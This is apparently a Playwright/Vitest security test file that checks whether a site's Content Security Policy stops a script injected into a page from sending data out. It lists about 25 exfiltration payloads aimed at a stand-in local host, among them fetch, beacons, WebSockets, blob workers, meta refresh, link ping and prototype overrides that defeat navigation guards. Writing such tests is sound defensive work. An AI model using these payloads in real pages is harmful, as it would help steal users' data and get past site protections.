import { type AddressInfo, createServer, type Server } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openBrowser, type SiteBrowser } from './kit.js'

let browser: SiteBrowser
let listener: Server
/** Somebody else's server on this machine: every byte that it receives would be a leak. */
let elsewhere: string
let received = ''

beforeAll(async () => {
  listener = createServer((socket) => {
    socket.on('data', (bytes) => {
      received += bytes
      socket.end('HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n')
    })
    socket.on('error', () => {})
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  elsewhere = `127.0.0.1:${(listener.address() as AddressInfo).port}`
  browser = await openBrowser()
})
afterAll(async () => {
  await browser.close()
  await new Promise((resolve) => listener.close(resolve))
})

/** Each is what a script that got into the page would try. It is run there, and told where to send the secret. */
const attempts: Readonly<Record<string, (page: Page, host: string) => Promise<unknown>>> = {
  fetch: (page, host) =>
    page.evaluate((to) => fetch(`http://${to}/?secret`, { mode: 'no-cors' }).catch(String), host),
  XMLHttpRequest: (page, host) =>
    page.evaluate(
      (to) =>
        new Promise((resolve) => {
          const request = new XMLHttpRequest()
          request.onloadend = resolve
          request.open('GET', `http://${to}/?secret`)
          request.send()
        }).catch(String),
      host,
    ),
  image: (page, host) =>
    page.evaluate(
      (to) =>
        new Promise((resolve) => {
          const image = new Image()
          image.onload = image.onerror = resolve
          image.src = `http://${to}/?secret`
        }),
      host,
    ),
  'style sheet': (page, host) =>
    page.evaluate(
      (to) =>
        new Promise((resolve) => {
          const link = document.createElement('link')
          link.rel = 'stylesheet'
          link.onload = link.onerror = resolve
          link.href = `http://${to}/?secret`
          document.head.append(link)
        }),
      host,
    ),
  script: (page, host) =>
    page.evaluate(
      (to) =>
        new Promise((resolve) => {
          const script = document.createElement('script')
          script.onload = script.onerror = resolve
          script.src = `http://${to}/?secret`
          document.head.append(script)
        }),
      host,
    ),
  form: (page, host) =>
    page.evaluate((to) => {
      const form = document.createElement('form')
      form.method = 'post'
      form.action = `http://${to}/`
      const input = document.createElement('input')
      input.name = 'secret'
      form.append(input)
      document.body.append(form)
      form.submit()
    }, host),
  beacon: (page, host) => page.evaluate((to) => navigator.sendBeacon(`http://${to}/`, 'secret'), host),
  'web socket': (page, host) =>
    page.evaluate(
      (to) =>
        new Promise((resolve) => {
          const socket = new WebSocket(`ws://${to}/?secret`)
          socket.onopen = socket.onerror = resolve
        }).catch(String),
      host,
    ),
  'event source': (page, host) =>
    page.evaluate(
      (to) =>
        new Promise((resolve) => {
          const source = new EventSource(`http://${to}/?secret`)
          source.onopen = source.onerror = resolve
        }).catch(String),
      host,
    ),
  'worker from a blob': (page, host) =>
    page.evaluate((to) => {
      const code = `fetch('http://${to}/?secret', { mode: 'no-cors' })`
      try {
        return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))) && 'made'
      } catch (error) {
        return String(error)
      }
    }, host),
  frame: (page, host) =>
    page.evaluate(
      (to) =>
        new Promise((resolve) => {
          const frame = document.createElement('iframe')
          frame.onload = frame.onerror = resolve
          frame.src = `http://${to}/?secret`
          document.body.append(frame)
        }),
      host,
    ),
  window: (page, host) => page.evaluate((to) => void window.open(`http://${to}/?secret`), host),
  'a click on a new link': (page, host) =>
    page.evaluate((to) => {
      const link = document.createElement('a')
      link.href = `http://${to}/?secret`
      document.body.append(link)
      link.click()
    }, host),
  navigation: (page, host) => page.evaluate((to) => location.assign(`http://${to}/?secret`), host),
  'navigation that keeps other listeners out': (page, host) =>
    page.evaluate((to) => {
      const { navigation } = window as unknown as { readonly navigation: EventTarget }
      navigation.addEventListener('navigate', (event) => event.stopImmediatePropagation(), { capture: true })
      location.assign(`http://${to}/?secret`)
    }, host),
  'navigation that nothing can prevent any more': (page, host) =>
    page.evaluate((to) => {
      Event.prototype.preventDefault = () => {}
      location.assign(`http://${to}/?secret`)
    }, host),
  'navigation that looks like a click within the site': (page, host) =>
    page.evaluate((to) => {
      const types = window as unknown as Record<string, { readonly prototype: object }>
      const answer = (type: string, name: string, value: unknown): void => {
        Object.defineProperty(types[type]?.prototype, name, { get: () => value })
      }
      answer('NavigateEvent', 'userInitiated', true)
      answer('NavigationDestination', 'url', location.href)
      answer('URL', 'origin', location.origin)
      String.prototype.startsWith = () => true
      Document.prototype.querySelector = () => null
      location.assign(`http://${to}/?secret`)
    }, host),
  'navigation to a document made on the spot': (page, host) =>
    page.evaluate(
      (to) =>
        // Either it is prevented, or the page in which this would be answered is gone.
        new Promise<void>((resolve) => {
          const { navigation } = window as unknown as { readonly navigation: EventTarget }
          navigation.addEventListener('navigateerror', () => resolve())
          const text = `<meta http-equiv="refresh" content="0;url=http://${to}/?secret">`
          location.assign(URL.createObjectURL(new Blob([text], { type: 'text/html' })))
        }),
      host,
    ),
  'navigation out of a frame': (page, host) =>
    page.evaluate((to) => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      const script = frame.contentWindow as unknown as { readonly top: Window }
      script.top.location.assign(`http://${to}/?secret`)
    }, host),
  'navigation by a meta element': (page, host) =>
    page.evaluate((to) => {
      const meta = document.createElement('meta')
      meta.httpEquiv = 'refresh'
      meta.content = `0;url=http://${to}/?secret`
      document.head.append(meta)
    }, host),
  ping: (page, host) =>
    page.evaluate((to) => {
      const link = document.createElement('a')
      link.href = '#'
      link.ping = `http://${to}/?secret`
      document.body.append(link)
      link.click()
    }, host),
  prefetch: (page, host) =>
    page.evaluate((to) => {
      for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender']) {
        const link = document.createElement('link')
        link.rel = rel
        link.setAttribute('as', 'script')
        link.href = `http://${to}/?secret`
        document.head.append(link)
      }
    }, host),
  'speculation rules': (page, host) =>
    page.evaluate((to) => {
      const script = document.createElement('script')
      script.type = 'speculationrules'
      script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`http://${to}/?secret`] }] })
      document.head.append(script)
    }, host),
  'inline script': (page, host) =>
    page.evaluate((to) => {
      const script = document.createElement('script')
      script.textContent = `location.href = 'http://${to}/?secret'`
      document.head.append(script)
    }, host),
  eval: (page, host) =>
    page.evaluate((to) => {
      const element = document.createElement('div')
      element.setAttribute('onclick', `fetch('http://${to}/?secret')`)
      document.body.append(element)
      element.click()
    }, host),
  'style with an address': (page, host) =>
    page.evaluate((to) => {
      document.body.style.backgroundImage = `url(http://${to}/?secret)`
      return getComputedStyle(document.body).backgroundImage
    }, host),
}

describe('a script that got into a page', () => {
  it.each(Object.keys(attempts))('cannot send anything away by %s', async (name) => {
    const { page } = await browser.open({ path: '/playground/keys' })
    received = ''
    await attempts[name]?.(page, elsewhere).catch(() => undefined)
    // Whatever was begun is older than this request, and the browser has one network for both.
    await page.evaluate(() => fetch(location.href))
    await page.evaluate(
      () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
    )
    expect(page.url().startsWith(`${browser.origin}/`)).toBe(true)
    await page.context().close()
    expect(received).toBe('')
  })

  it('would be seen by this test if it could', async () => {
    const { page } = await browser.open({ path: '/playground/keys' })
    const other = await page.context().newPage()
    received = ''
    await other.goto(`http://${elsewhere}/?secret`).catch(() => undefined)
    expect(received).toContain('GET /?secret')
    await page.context().close()
  })
})

describe('the policy', () => {
  it('has no unsafe word, and is in the page as well as in the header', async () => {
    const { page } = await browser.open({ path: '/' })
    const response = await page.request.get(browser.origin)
    const header = response.headers()['content-security-policy'] ?? ''
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
    for (const policy of [header, meta ?? '']) {
      expect(policy).toContain("default-src 'none'")
      expect(policy).not.toMatch(/unsafe|\*|https?:/)
    }
    await page.context().close()
  })
})
